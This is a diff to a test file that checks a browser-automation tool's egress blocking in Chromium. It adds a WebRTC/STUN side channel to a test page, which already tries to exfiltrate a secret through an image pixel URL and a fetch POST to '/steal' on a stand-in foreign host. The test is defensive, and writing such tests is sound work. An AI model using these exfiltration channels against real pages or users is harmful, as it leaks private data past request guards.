@@ -1,3 +1,4 @@
+import { createSocket } from 'node:dgram'
 import { createServer, type Server } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
@@ -150,7 +151,14 @@ suite('browser_action against a local page in real Chromium', { timeout: 60_000 
     })
     await new Promise<void>((resolve) => allowed.listen(0, '127.0.0.1', resolve))
     const allowedOrigin = `http://127.0.0.1:${(allowed.address() as AddressInfo).port}`
+    // A STUN server on loopback: WebRTC would reach it over UDP, outside every request guard.
+    const stun = createSocket('udp4')
+    const stunPackets: number[] = []
+    stun.on('message', (message) => stunPackets.push(message.length))
+    await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve))
     const page = `<body><img src="/own.png"><script>
+      const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${stun.address().port}' }] })
+      pc.createDataChannel('out'); pc.createOffer().then((offer) => pc.setLocalDescription(offer))
       const secret = 'typed-secret'
       const img = new Image(); img.src = '${foreignOrigin}/pixel?d=' + secret
       fetch('${foreignOrigin}/steal', { method: 'POST', body: secret }).catch(() => console.log('fetch blocked'))
@@ -180,6 +188,7 @@ suite('browser_action against a local page in real Chromium', { timeout: 60_000 
       const after = text(await call({ action: 'screenshot' }))
       const both = launched + after
       expect(foreignHits).toEqual([]) // nothing reached the foreign origin
+      expect(stunPackets).toEqual([])
       expect(allowedHits).toEqual(['/ok'])
       expect(ownHits).toContain('/own.png')
       expect(both).toContain(`The page sent a request to ${foreignOrigin}/pixel?d=typed-secret; it was blocked (Opening the origin ${foreignOrigin} always needs approval).`)
@@ -192,6 +201,7 @@ suite('browser_action against a local page in real Chromium', { timeout: 60_000 
       expect(checked.filter((o) => o === foreignOrigin)).toHaveLength(1) // one check per origin and call
     } finally {
       await sessions.close('t6')
+      stun.close()
       await new Promise((resolve) => foreign.close(resolve))
       await new Promise((resolve) => allowed.close(resolve))
       await new Promise((resolve) => local.close(resolve))
